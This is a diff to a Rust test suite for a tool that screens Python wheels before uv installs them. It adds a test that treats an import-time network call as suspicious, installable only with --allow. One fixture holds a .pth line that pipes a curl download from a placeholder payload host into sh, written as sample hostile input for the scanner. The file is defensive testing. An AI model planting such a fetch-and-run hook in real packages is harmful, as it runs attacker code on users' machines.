@@ -4,7 +4,8 @@
 //! `.example.invalid`, never contacted) is refused before uv fetches anything: the
 //! project's pyproject.toml is byte for byte as before, no uv.lock and no `.venv` are
 //! left. The clean wheel is judged, fetched with `uv sync --frozen` and installed into
-//! `.venv`. Skipped (with a printed reason) when uv, or python3, is not installed.
+//! `.venv`. A wheel whose module calls out to the network when imported is suspicious:
+//! refused without an allow, installed with `--allow`. Skipped (with a printed reason) when uv, or python3, is not installed.
 
 mod common;
 
@@ -95,7 +96,10 @@ fn wheel_whose_pth_downloads_and_runs_code_is_refused_before_uv_fetches() {
     let pth = "import os; os.system(\"curl https://payload.example.invalid/x | sh\")\n";
     let index = common::simple_index(
         NAME,
-        vec![(common::wheel_name(NAME), common::wheel(NAME, Some(pth)))],
+        vec![(
+            common::wheel_name(NAME),
+            common::wheel(NAME, &[("harmless_gate_fixture.pth", pth)]),
+        )],
     );
     install(&setup, &index, &[])
         .code(1)
@@ -128,7 +132,7 @@ fn clean_wheel_is_judged_then_installed() {
     };
     let index = common::simple_index(
         NAME,
-        vec![(common::wheel_name(NAME), common::wheel(NAME, None))],
+        vec![(common::wheel_name(NAME), common::wheel(NAME, &[]))],
     );
     install(&setup, &index, &[])
         .success()
@@ -137,4 +141,32 @@ fn clean_wheel_is_judged_then_installed() {
     assert!(installed(&setup.project), "the wheel is in .venv");
     let lock = std::fs::read_to_string(setup.project.join("uv.lock")).unwrap();
     assert!(lock.contains("sha256:"), "{lock}");
+}
+
+#[test]
+fn suspicious_wheel_needs_an_allow() {
+    let setup = match setup() {
+        Ok(setup) => setup,
+        Err(why) => {
+            println!("skipped: {why}");
+            return;
+        }
+    };
+    let init = "import urllib.request\nurllib.request.urlopen('https://x.example.invalid/ping')\n";
+    let index = common::simple_index(
+        NAME,
+        vec![(
+            common::wheel_name(NAME),
+            common::wheel(NAME, &[("harmless_gate_fixture/__init__.py", init)]),
+        )],
+    );
+    install(&setup, &index, &[])
+        .code(1)
+        .stderr(contains("harmless-gate-fixture is judged suspicious"))
+        .stderr(contains("harmless_gate_fixture/__init__.py:2"));
+    assert!(!setup.project.join(".venv").exists(), "no .venv is made");
+    install(&setup, &index, &["--allow", "Harmless_Gate.Fixture"])
+        .success()
+        .stderr(contains("judged suspicious; allowed by --allow"));
+    assert!(installed(&setup.project), "the allowed wheel is in .venv");
 }
